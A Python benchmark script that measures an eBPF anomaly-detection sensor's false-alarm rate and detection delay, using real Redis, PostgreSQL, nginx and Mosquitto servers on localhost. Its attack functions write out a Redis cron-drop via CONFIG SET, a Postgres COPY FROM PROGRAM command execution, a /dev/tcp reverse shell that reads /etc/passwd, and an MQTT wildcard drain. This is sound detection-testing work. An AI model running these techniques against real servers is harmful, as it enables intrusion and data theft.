"""Real daemons under the real eBPF sensor, with every default: false alarms per image per hour, and detection and
delay per attack.

Four servers from Debian packages, each started in a cgroup of its own (one container, one image, as the sensor
sees them): ``redis-server`` (key-value store), ``postgres`` (relational database), ``nginx`` (web server) and
``mosquitto`` (MQTT message broker).  Their own load tools drive them from outside the watched cgroups
(``redis-benchmark``, ``pgbench``, ``ab``, ``mosquitto_pub``/``mosquitto_sub``), each on a seeded schedule of
normal load, bursts (3-5 times the rate) and idle spells.  ``baseliner serve`` and ``baseliner sensor --source
bpf`` run with every default; the sensor only gets ``--cgroup-image`` (to name the four images) and ``--host
ignore`` (so the load tools are not a container).

Phases (wall clock = event time):

1. *learn*: until every image's baseline is detecting, as the service decides (``baseliner admin list``);
2. *quiet*: ``--quiet-minutes`` (default 60) attack-free; every anomaly event is a false alarm;
3. *attacks*, one per daemon, ``--attack-gap`` seconds apart, each with a technique used against that daemon:

   * ``redis``: the unauthenticated-Redis file write (``CONFIG SET dir`` / ``CONFIG SET dbfilename`` /
     ``SAVE``), the technique used to drop cron jobs and SSH keys; here into a directory the bench creates
     under ``/etc`` and removes;
   * ``postgres``: ``COPY ... TO PROGRAM`` (the CVE-2019-9193 technique, a superuser session): a backend runs
     ``id`` through ``/bin/sh``;
   * ``nginx``: a reverse shell after remote code execution: a shell started in the web server's container
     connects out to a port it never used;
   * ``mosquitto``: data theft over the broker: a client subscribes to every topic (``#``) and a burst of
     publishes is relayed to it, rates far above the broker's learnt ones, no new binary or port.

An attack is detected when an anomaly event of its image starts in the attack's window span; its delay is from
the attack's start to the end of the first window of that event.  False alarms are counted as events (the
service folds repeats of a container and set of kinds into one event) and as anomalous windows.

    sudo .venv/bin/python bench/real_daemons.py [--quiet-minutes 60] [--out evaluation/real-daemons]

Needs root, BPF (``scripts/bootstrap.sh``) and the Debian packages ``redis-server redis-tools nginx-light
apache2-utils mosquitto mosquitto-clients postgresql`` (``--install`` installs the missing ones).  About 10 minutes
of learning, the quiet phase, then ~5 minutes of attacks.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from procs import free_port  # noqa: E402

REPO = Path(__file__).resolve().parents[1]
BASELINER = [sys.executable, "-m", "baseliner.service.cli"]
CG_ROOT = Path("/sys/fs/cgroup/unified")
PG_BIN = Path("/usr/lib/postgresql/15/bin")
PACKAGES = ("redis-server", "redis-tools", "nginx-light", "apache2-utils", "mosquitto", "mosquitto-clients",
            "postgresql")
TOOLS = ("redis-server", "redis-benchmark", "redis-cli", "nginx", "ab", "mosquitto", "mosquitto_pub",
         "mosquitto_sub", "setpriv")
IMAGES = {"redis": "redis:7.0", "postgres": "postgres:15", "nginx": "nginx:1.22", "mosquitto": "eclipse-mosquitto:2.0"}


class BenchError(Exception):
    """The bench cannot run here (with the reason)."""


# -- the daemons ---------------------------------------------------------------------------------------------


@dataclass
class Daemon:
    name: str
    port: int
    cgroup: Path
    proc: subprocess.Popen[bytes] | None = None


def run(cmd: list[str], **kw: Any) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=120, **kw)


def in_cgroup(cgroup: Path, cmd: list[str], user: str | None = None) -> subprocess.Popen[bytes]:
    """Start ``cmd`` with its first process (and so every descendant) in ``cgroup``, as ``user`` if given."""
    prefix = ["setpriv", f"--reuid={user}", f"--regid={user}", "--init-groups"] if user else []
    wrapper = ["sh", "-c", 'echo $$ > "$0/cgroup.procs" && exec "$@"', str(cgroup), *prefix, *cmd]
    return subprocess.Popen(wrapper, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


def wait_port(port: int, timeout: float = 60.0) -> None:
    import socket

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1):
            return
        time.sleep(0.3)
    raise BenchError(f"nothing listens on 127.0.0.1:{port} after {timeout:.0f} s")


def start_redis(d: Daemon, work: Path) -> None:
    data = work / "redis"
    data.mkdir()
    d.proc = in_cgroup(d.cgroup, ["redis-server", "--port", str(d.port), "--bind", "127.0.0.1", "--save", "",
                                  "--appendonly", "no", "--dir", str(data), "--protected-mode", "no"])
    wait_port(d.port)


def start_postgres(d: Daemon, work: Path) -> None:
    data, sock = work / "pg", work / "pgsock"
    for p in (data, sock):
        p.mkdir()
        shutil.chown(p, "postgres", "postgres")
    run(["setpriv", "--reuid=postgres", "--regid=postgres", "--init-groups", str(PG_BIN / "initdb"), "-D", str(data),
         "--auth=trust", "-U", "postgres"])
    d.proc = in_cgroup(d.cgroup, [str(PG_BIN / "postgres"), "-D", str(data), "-p", str(d.port), "-k", str(sock),
                                  "-c", "listen_addresses=127.0.0.1", "-c", "shared_buffers=32MB",
                                  "-c", "max_connections=40"], user="postgres")
    wait_port(d.port)
    run([str(PG_BIN / "pgbench"), "-h", "127.0.0.1", "-p", str(d.port), "-U", "postgres", "-i", "-s", "2",
         "postgres"])


def start_nginx(d: Daemon, work: Path) -> None:
    www = work / "www"
    www.mkdir()
    (www / "index.html").write_text("<html><body>" + "hello " * 200 + "</body></html>\n")
    (www / "style.css").write_text("body { font-family: sans-serif; }\n" * 40)
    (www / "photo.jpg").write_bytes(os.urandom(120_000))
    conf = work / "nginx.conf"
    conf.write_text(f"""
worker_processes 2;
pid {work}/nginx.pid;
error_log {work}/nginx-error.log;
events {{ worker_connections 256; }}
http {{
  access_log {work}/nginx-access.log;
  client_body_temp_path {work}/nginx-body;
  proxy_temp_path {work}/nginx-proxy;
  fastcgi_temp_path {work}/nginx-fastcgi;
  uwsgi_temp_path {work}/nginx-uwsgi;
  scgi_temp_path {work}/nginx-scgi;
  server {{ listen 127.0.0.1:{d.port}; root {www}; }}
}}
""")
    d.proc = in_cgroup(d.cgroup, ["nginx", "-c", str(conf), "-g", "daemon off;"])
    wait_port(d.port)


def start_mosquitto(d: Daemon, work: Path) -> None:
    conf = work / "mosquitto.conf"
    conf.write_text(f"listener {d.port} 127.0.0.1\nallow_anonymous true\npersistence false\n")
    d.proc = in_cgroup(d.cgroup, ["mosquitto", "-c", str(conf)])
    wait_port(d.port)


STARTERS: dict[str, Callable[[Daemon, Path], None]] = {
    "redis": start_redis, "postgres": start_postgres, "nginx": start_nginx, "mosquitto": start_mosquitto,
}


# -- load: each daemon's own tool, on a seeded schedule of normal load, bursts and idle spells -------------


@dataclass
class Phase:
    kind: str  # normal | burst | idle
    seconds: float
    factor: float


def schedule(rng: random.Random) -> Iterator[Phase]:
    while True:
        r = rng.random()
        if r < 0.7:
            yield Phase("normal", rng.uniform(120, 360), rng.uniform(0.7, 1.3))
        elif r < 0.85:
            yield Phase("burst", rng.uniform(60, 180), rng.uniform(3.0, 5.0))
        else:
            yield Phase("idle", rng.uniform(60, 300), 0.0)


class Load(threading.Thread):
    """Drives one daemon until ``stop`` is set: one step a second at the phase's rate."""

    def __init__(self, d: Daemon, seed: int, stop: threading.Event, work: Path) -> None:
        super().__init__(daemon=True, name=f"load-{d.name}")
        self.d, self.rng, self.stop, self.work = d, random.Random(seed), stop, work
        self.errors = 0
        self.phases: list[tuple[float, str]] = []
        self._pub: subprocess.Popen[str] | None = None

    def run(self) -> None:
        for phase in schedule(self.rng):
            self.phases.append((time.time(), phase.kind))
            end = time.monotonic() + phase.seconds
            while time.monotonic() < end:
                if self.stop.is_set():
                    self.close()
                    return
                t0 = time.monotonic()
                if phase.factor > 0:
                    try:
                        self.step(phase.factor)
                    except (subprocess.SubprocessError, OSError):
                        self.errors += 1
                time.sleep(max(0.0, 1.0 - (time.monotonic() - t0)))

    def step(self, f: float) -> None:
        d, port = self.d, str(self.d.port)
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "timeout": 30, "check": True}
        if d.name == "redis":
            subprocess.run(["redis-benchmark", "-p", port, "-q", "-c", "2", "-n", str(int(150 * f)),
                            "-t", "set,get,incr,lpush,lpop"], **quiet)  # type: ignore[call-overload]
        elif d.name == "postgres":
            subprocess.run([str(PG_BIN / "pgbench"), "-h", "127.0.0.1", "-p", port, "-U", "postgres", "-n", "-c", "2",
                            "-t", str(max(1, int(5 * f))), "postgres"], **quiet)  # type: ignore[call-overload]
        elif d.name == "nginx":
            page = self.rng.choice(["index.html", "style.css", "photo.jpg"])
            subprocess.run(["ab", "-q", "-k", "-c", "2", "-n", str(int(40 * f)), f"http://127.0.0.1:{port}/{page}"],
                           **quiet)  # type: ignore[call-overload]
        elif d.name == "mosquitto":
            if self._pub is None or self._pub.poll() is not None:
                self._pub = subprocess.Popen(["mosquitto_pub", "-p", port, "-t", "plant/line1/telemetry", "-l"],
                                             stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                                             stderr=subprocess.DEVNULL, text=True)
            assert self._pub.stdin is not None
            for i in range(int(30 * f)):
                self._pub.stdin.write(json.dumps({"seq": i, "t": time.time(), "v": self.rng.random()}) + "\n")
            self._pub.stdin.flush()

    def close(self) -> None:
        if self._pub is not None:
            with contextlib.suppress(OSError, subprocess.TimeoutExpired):
                if self._pub.stdin:
                    self._pub.stdin.close()
                self._pub.terminate()
                self._pub.wait(5)


# -- attacks ---------------------------------------------------------------------------------------------------


@dataclass
class Attack:
    daemon: str
    technique: str
    start: float = 0.0
    end: float = 0.0
    detected: bool = False
    delay: float | None = None
    kinds: list[str] = field(default_factory=list)


def attack_redis(d: Daemon, work: Path) -> str:
    target = Path(f"/etc/baseliner-bench-{os.getpid()}")
    target.mkdir(exist_ok=True)
    cli = ["redis-cli", "-p", str(d.port)]
    run([*cli, "SET", "x", "\n\n* * * * * root sh -c 'id > /tmp/pwned'\n\n"])
    run([*cli, "CONFIG", "SET", "dir", str(target)])
    run([*cli, "CONFIG", "SET", "dbfilename", "root"])
    run([*cli, "SAVE"])
    run([*cli, "CONFIG", "SET", "dir", str(work / "redis")])
    run([*cli, "CONFIG", "SET", "dbfilename", "dump.rdb"])
    return f"CONFIG SET dir {target} + dbfilename root + SAVE (cron-job drop via Redis persistence)"


def attack_postgres(d: Daemon, work: Path) -> str:
    run([str(PG_BIN / "psql"), "-h", "127.0.0.1", "-p", str(d.port), "-U", "postgres", "-c",
         "CREATE TABLE IF NOT EXISTS cmd_out(line text); COPY cmd_out FROM PROGRAM 'id; uname -a';"])
    return "COPY cmd_out FROM PROGRAM 'id; uname -a' (CVE-2019-9193 technique, superuser session)"


def attack_nginx(d: Daemon, work: Path) -> str:
    import socket

    c2 = socket.socket()
    c2.bind(("127.0.0.1", 0))
    c2.listen(1)
    port = c2.getsockname()[1]
    shell = in_cgroup(d.cgroup, ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; "
                                 "echo 'id; uname -a; cat /etc/passwd' | /bin/sh >&3 2>&3"])
    c2.settimeout(30)
    with contextlib.suppress(OSError):
        conn, _ = c2.accept()
        conn.recv(65536)
        conn.close()
    c2.close()
    shell.wait(30)
    return f"shell in the web server's container connecting out to 127.0.0.1:{port} (reverse shell after RCE)"


def attack_mosquitto(d: Daemon, work: Path) -> str:
    sub = subprocess.Popen(["mosquitto_sub", "-p", str(d.port), "-t", "#", "-v"], stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
    time.sleep(1)
    payload = "x" * 4000
    pub = subprocess.Popen(["mosquitto_pub", "-p", str(d.port), "-t", "plant/line1/telemetry", "-l"],
                           stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, text=True)
    assert pub.stdin is not None
    end = time.monotonic() + 60
    while time.monotonic() < end:
        pub.stdin.write("\n".join([payload] * 500) + "\n")
        pub.stdin.flush()
        time.sleep(0.2)
    pub.stdin.close()
    pub.wait(30)
    sub.terminate()
    sub.wait(10)
    return "subscriber on '#' draining every topic while 2,500 messages/s of 4 KB are relayed for 60 s (data theft)"


ATTACKS: dict[str, Callable[[Daemon, Path], str]] = {
    "redis": attack_redis, "postgres": attack_postgres, "nginx": attack_nginx, "mosquitto": attack_mosquitto,
}


# -- the service and the sensor ------------------------------------------------------------------------------


def admin_states(port: int) -> dict[str, str]:
    out = subprocess.run([*BASELINER, "admin", "--target", f"127.0.0.1:{port}", "list"], cwd=REPO,
                         capture_output=True, text=True, timeout=60)
    states = {}
    for line in out.stdout.splitlines():
        parts = line.split()
        if len(parts) >= 2:
            states[parts[0]] = parts[1]
    return states


def read_events(path: Path) -> list[dict[str, Any]]:
    if not path.exists():
        return []
    out = []
    for line in path.read_text().splitlines():
        with contextlib.suppress(json.JSONDecodeError):
            out.append(json.loads(line))
    return out


def epoch(iso: str) -> float:
    from datetime import datetime

    return datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp()


def preflight(install: bool) -> None:
    if os.geteuid() != 0:
        raise BenchError("needs root (cgroups, BPF)")
    from baseliner.sensor.probes import check_prerequisites

    problems = check_prerequisites()
    if not CG_ROOT.is_dir():
        problems.append(f"no cgroup v2 at {CG_ROOT}")
    missing = [t for t in TOOLS if shutil.which(t) is None] + [str(p) for p in (PG_BIN / "postgres",) if not p.exists()]
    if missing and install:
        subprocess.run(["apt-get", "install", "-y", "-qq", "--no-install-recommends", *PACKAGES], check=True,
                       env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"})
        missing = [t for t in TOOLS if shutil.which(t) is None]
    if missing:
        problems.append(f"missing {', '.join(missing)} (apt-get install {' '.join(PACKAGES)}, or --install)")
    if problems:
        raise BenchError("; ".join(problems))


@dataclass
class Result:
    started: float
    detecting_at: dict[str, float]
    quiet_start: float
    quiet_end: float
    false_alarm_events: dict[str, int]
    false_alarm_windows: dict[str, int]
    false_alarm_kinds: dict[str, dict[str, int]]
    attacks: list[Attack]
    load_errors: dict[str, int]
    sensor_window: float
    service_settings: list[str]
    examples: list[dict[str, Any]] = field(default_factory=list)

    @property
    def quiet_hours(self) -> float:
        return (self.quiet_end - self.quiet_start) / 3600.0


def bench(args: argparse.Namespace, work: Path) -> Result:
    tag = f"baseliner-daemons-{os.getpid()}"
    parent = CG_ROOT / tag
    daemons = {n: Daemon(n, free_port(), parent / n) for n in STARTERS}
    for d in daemons.values():
        d.cgroup.mkdir(parents=True, exist_ok=True)
    service_port = free_port()
    events = work / "events.jsonl"
    procs: list[subprocess.Popen[Any]] = []
    stop = threading.Event()
    loads: list[Load] = []
    try:
        service_cmd = [*BASELINER, "serve", "--listen", f"127.0.0.1:{service_port}", "--metrics-listen", "",
                       "--events", str(events)]
        for s in args.service_set:
            service_cmd += ["--set", s]
        procs.append(subprocess.Popen(service_cmd, cwd=REPO, stdout=subprocess.DEVNULL,
                                      stderr=open(work / "serve.log", "w")))  # noqa: SIM115
        wait_port(service_port)
        sensor_cmd = [*BASELINER, "sensor", "--source", "bpf", "--target", f"127.0.0.1:{service_port}",
                      "--node", "bench", "--host", "ignore"]
        for name, image in IMAGES.items():
            sensor_cmd += ["--cgroup-image", f"^/{tag}/{name}$={image}"]
        if args.window:
            sensor_cmd += ["--window", str(args.window)]
        procs.append(subprocess.Popen(sensor_cmd, cwd=REPO, stdout=subprocess.DEVNULL,
                                      stderr=open(work / "sensor.log", "w")))  # noqa: SIM115
        time.sleep(args.sensor_warmup)
        if procs[-1].poll() is not None:
            raise BenchError(f"the sensor exited ({(work / 'sensor.log').read_text()[-2000:]})")
        started = time.time()
        for name, d in daemons.items():
            STARTERS[name](d, work)
            log(f"{name} ({IMAGES[name]}) on 127.0.0.1:{d.port}")
        for k, d in enumerate(daemons.values()):
            loads.append(Load(d, args.seed * 100 + k, stop, work))
            loads[-1].start()
        detecting_at = learn(service_port, procs, started, args.learn_timeout_minutes * 60)
        quiet_start = max(detecting_at.values())
        log(f"every image detecting after {(quiet_start - started) / 60:.1f} min; quiet for {args.quiet_minutes} min")
        sleep_checked(args.quiet_minutes * 60, procs)
        quiet_end = time.time()
        attacks = []
        for name in args.attacks:
            a = Attack(name, "", time.time())
            a.technique = ATTACKS[name](daemons[name], work)
            a.end = time.time()
            attacks.append(a)
            log(f"attack on {name}: {a.technique}")
            sleep_checked(args.attack_gap, procs)
        time.sleep(args.window_grace)
        return summarise(read_events(events), started, detecting_at, quiet_start, quiet_end, attacks,
                         {load.d.name: load.errors for load in loads}, args)
    finally:
        stop.set()
        for load in loads:
            load.join(10)
        for d in daemons.values():
            if d.proc is not None and d.proc.poll() is None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(d.proc.pid, signal.SIGTERM)
                with contextlib.suppress(subprocess.TimeoutExpired):
                    d.proc.wait(30)
        for p in reversed(procs):
            if p.poll() is None:
                p.send_signal(signal.SIGINT)
                with contextlib.suppress(subprocess.TimeoutExpired):
                    p.wait(30)
                if p.poll() is None:
                    p.kill()
        for d in daemons.values():
            with contextlib.suppress(OSError):
                for pid in (d.cgroup / "cgroup.procs").read_text().split():
                    with contextlib.suppress(ProcessLookupError):
                        os.kill(int(pid), signal.SIGKILL)
            time.sleep(0.2)
            with contextlib.suppress(OSError):
                d.cgroup.rmdir()
        with contextlib.suppress(OSError):
            parent.rmdir()
        shutil.rmtree(f"/etc/baseliner-bench-{os.getpid()}", ignore_errors=True)


def log(msg: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {msg}", flush=True)


def sleep_checked(seconds: float, procs: list[subprocess.Popen[Any]]) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for p in procs:
            if p.poll() is not None:
                raise BenchError(f"{p.args!r} exited with {p.returncode}")
        time.sleep(min(5.0, max(0.0, end - time.monotonic())))


def learn(port: int, procs: list[subprocess.Popen[Any]], started: float, timeout: float) -> dict[str, float]:
    detecting: dict[str, float] = {}
    while len(detecting) < len(IMAGES):
        sleep_checked(5, procs)
        for key, state in admin_states(port).items():
            # the sensor sees every container of the node: only the bench's images count
            if key in IMAGES.values() and state == "detecting" and key not in detecting:
                detecting[key] = time.time()
                log(f"{key} detecting after {(detecting[key] - started) / 60:.1f} min")
        if time.time() - started > timeout:
            raise BenchError(f"after {timeout / 60:.0f} min only {sorted(detecting)} detect")
    return detecting


def summarise(events: list[dict[str, Any]], started: float, detecting_at: dict[str, float], quiet_start: float,
              quiet_end: float, attacks: list[Attack], load_errors: dict[str, int],
              args: argparse.Namespace) -> Result:
    image_of = {v: k for k, v in IMAGES.items()}
    final: dict[str, dict[str, Any]] = {}
    for e in events:  # the last write of each event carries its folded count
        final[e["event_id"]] = e
    fa_events = {n: 0 for n in IMAGES}
    fa_windows = {n: 0 for n in IMAGES}
    fa_kinds: dict[str, dict[str, int]] = {n: {} for n in IMAGES}
    examples = []
    for e in final.values():
        name = image_of.get(e["image"]["key"])
        if name is None:  # another container on this node (the sensor watches them all)
            continue
        first = epoch(e["first_seen"])
        if quiet_start <= first < quiet_end:
            fa_events[name] = fa_events.get(name, 0) + 1
            fa_windows[name] = fa_windows.get(name, 0) + int(e.get("count", 1))
            for k in e["kinds"]:
                fa_kinds.setdefault(name, {})[k] = fa_kinds.get(name, {}).get(k, 0) + 1
            if len(examples) < 10:
                examples.append({"image": name, "kinds": e["kinds"], "score": e["score"], "threshold": e["threshold"],
                                 "explanation": [x["text"] for x in e["explanation"][:3]],
                                 "novel": e["novel"], "count": e.get("count", 1)})
    for a in attacks:
        window = args.window or 5.0
        hits = sorted((epoch(e["first_seen"]), e) for e in final.values()
                      if image_of.get(e["image"]["key"]) == a.daemon
                      and a.start - window <= epoch(e["first_seen"]) <= a.end + args.window_grace)
        if hits:
            first, e = hits[0]
            a.detected = True
            a.delay = max(0.0, first + e["window"]["seconds"] - a.start)
            a.kinds = sorted({k for _, ev in hits for k in ev["kinds"]})
    return Result(started, {image_of.get(k, k): v - started for k, v in detecting_at.items()}, quiet_start,
                  quiet_end, fa_events, fa_windows, fa_kinds, attacks, load_errors, args.window or 5.0,
                  list(args.service_set), examples)


def report(r: Result, command: str) -> str:
    settings = ", ".join(r.service_settings)
    title = f"every default except {settings}" if settings else "every default"
    lines = [f"# Real daemons under the eBPF sensor, {title}",
             "",
             f"Command: `{command}`", "",
             f"Learning: every image detecting after {max(r.detecting_at.values()) / 60:.1f} min "
             f"({', '.join(f'{k} {v / 60:.1f}' for k, v in sorted(r.detecting_at.items()))}). "
             f"Quiet phase: {r.quiet_hours * 60:.0f} min with load (bursts and idle spells); sensor windows of "
             f"{r.sensor_window:g} s.", "",
             "| image | false-alarm events | per hour | anomalous windows | kinds |",
             "| --- | ---: | ---: | ---: | --- |"]
    for name in IMAGES:
        n = r.false_alarm_events.get(name, 0)
        kinds = ", ".join(f"{k} {v}" for k, v in sorted(r.false_alarm_kinds.get(name, {}).items()))
        lines.append(f"| {IMAGES[name]} | {n} | {n / r.quiet_hours:.2f} | {r.false_alarm_windows.get(name, 0)} | "
                     f"{kinds} |")
    total = sum(r.false_alarm_events.values())
    lines += ["", f"All images: {total} false-alarm events, {total / r.quiet_hours / len(IMAGES):.2f} per image-hour "
              f"(budget: 1 per image per day = {1 / 24:.3f} per image-hour).", "",
              "| attack | technique | detected | delay (s) | kinds |", "| --- | --- | :---: | ---: | --- |"]
    for a in r.attacks:
        delay = f"{a.delay:.0f}" if a.delay is not None else ""
        lines.append(f"| {a.daemon} | {a.technique} | {'yes' if a.detected else 'no'} | {delay} | "
                     f"{', '.join(a.kinds)} |")
    if r.examples:
        lines += ["", "False alarms (first ten):", ""]
        lines += [f"* {x['image']}: {', '.join(x['kinds'])}, score {x['score']:.2f} / threshold {x['threshold']:.2f}, "
                  f"{x['count']} windows; {'; '.join(x['explanation'])}" for x in r.examples]
    if any(r.load_errors.values()):
        lines += ["", f"Load steps that failed: {r.load_errors}"]
    return "\n".join(lines) + "\n"


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    ap.add_argument("--quiet-minutes", type=float, default=60.0, help="attack-free detection time (default 60)")
    ap.add_argument("--learn-timeout-minutes", type=float, default=120.0)
    ap.add_argument("--attacks", default=",".join(ATTACKS), help="comma separated, default all")
    ap.add_argument("--attack-gap", type=float, default=60.0, help="seconds between attacks (default 60)")
    ap.add_argument("--window", type=float, default=0.0, help="sensor window in seconds (default: the sensor's)")
    ap.add_argument("--service-set", action="append", default=[], metavar="SECTION.KEY=VALUE",
                    help="a service setting (for tests of this bench; the benchmark uses none)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--sensor-warmup", type=float, default=20.0, help="seconds for the sensor to load (default 20)")
    ap.add_argument("--window-grace", type=float, default=30.0, help="seconds to wait for the last events")
    ap.add_argument("--install", action="store_true", help="apt-get install missing Debian packages")
    ap.add_argument("--out", default="evaluation/real-daemons")
    ap.add_argument("--keep", action="store_true", help="keep the work directory (logs, events)")
    args = ap.parse_args(argv)
    args.attacks = [a.strip() for a in args.attacks.split(",") if a.strip()]
    unknown = [a for a in args.attacks if a not in ATTACKS]
    if unknown:
        print(f"real_daemons: unknown attack {unknown[0]!r}; known: {', '.join(ATTACKS)}", file=sys.stderr)
        return 2
    work = Path(tempfile.mkdtemp(prefix="baseliner-daemons-"))
    os.chmod(work, 0o755)
    try:
        preflight(args.install)
        result = bench(args, work)
    except BenchError as exc:
        print(f"real_daemons: {exc}", file=sys.stderr)
        return 2
    except KeyboardInterrupt:
        print("real_daemons: interrupted; daemons stopped and cgroups removed", file=sys.stderr)
        return 130
    finally:
        out = Path(args.out)
        out.mkdir(parents=True, exist_ok=True)
        for name in ("events.jsonl", "serve.log", "sensor.log"):
            if (work / name).exists():
                shutil.copy(work / name, out / name)
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)
    command = "bench/real_daemons.py " + " ".join(argv if argv is not None else sys.argv[1:])
    text = report(result, command)
    (out / "report.md").write_text(text)
    (out / "results.json").write_text(json.dumps({**asdict(result), "quiet_hours": result.quiet_hours},
                                                 indent=2, default=str) + "\n")
    print(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
